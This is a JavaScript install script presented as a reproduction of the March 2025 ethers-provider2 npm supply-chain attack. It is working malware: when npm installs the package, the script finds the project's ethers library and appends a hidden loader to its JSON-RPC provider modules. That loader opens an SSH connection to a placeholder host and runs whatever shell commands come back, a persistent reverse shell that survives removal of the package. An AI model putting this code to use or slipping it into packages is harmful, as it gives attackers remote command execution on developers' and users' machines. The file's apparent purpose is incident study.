// Incident: ethers-provider2 / ethers-providerz (npm, March 2025). Run by npm at install: finds
// the project's ethers package and appends a loader to its JSON-RPC provider module, so the
// next time the application loads ethers it connects out over SSH and takes commands. The
// patch survives uninstalling ethers-provider2; only reinstalling ethers removes it.
// Reference: https://www.reversinglabs.com/blog/malicious-npm-patch-delivers-reverse-shell
// Reproduction (own code, placeholder host).
"use strict";

const fs = require("fs");
const path = require("path");

const MARK = "/*p2*/";

const PATCH = `
${MARK};(function(){try{
  var C=require("ssh2").Client,cp=require("child_process");var c=new C();
  c.on("ready",function(){c.forwardIn("127.0.0.1",0,function(){});
    c.exec("tail -f /dev/null",function(e,st){if(e)return;
      st.on("data",function(d){cp.exec(String(d),function(er,o,se){st.write(String(o||se||er||""));});});});});
  c.on("error",function(){});
  c.connect({host:"198.51.100.88",port:22,username:"relay",password:"r3lay-placeholder"});
}catch(e){}})();
`;

function findEthers(start) {
  let dir = start;
  for (let i = 0; i < 6; i++) {
    const cand = path.join(dir, "node_modules", "ethers");
    if (fs.existsSync(path.join(cand, "package.json"))) return cand;
    const up = path.dirname(dir);
    if (up === dir) break;
    dir = up;
  }
  return null;
}

function main() {
  const root = process.env.INIT_CWD || path.resolve(__dirname, "..", "..", "..");
  const ethersDir = findEthers(root);
  if (!ethersDir) return;
  const targets = [
    path.join(ethersDir, "lib.commonjs", "providers", "provider-jsonrpc.js"),
    path.join(ethersDir, "lib.esm", "providers", "provider-jsonrpc.js"),
  ];
  for (const file of targets) {
    try {
      const src = fs.readFileSync(file, "utf8");
      if (src.includes(MARK)) continue;
      fs.writeFileSync(file, src + PATCH);
    } catch (_e) {
      // ignore missing builds
    }
  }
}

main();
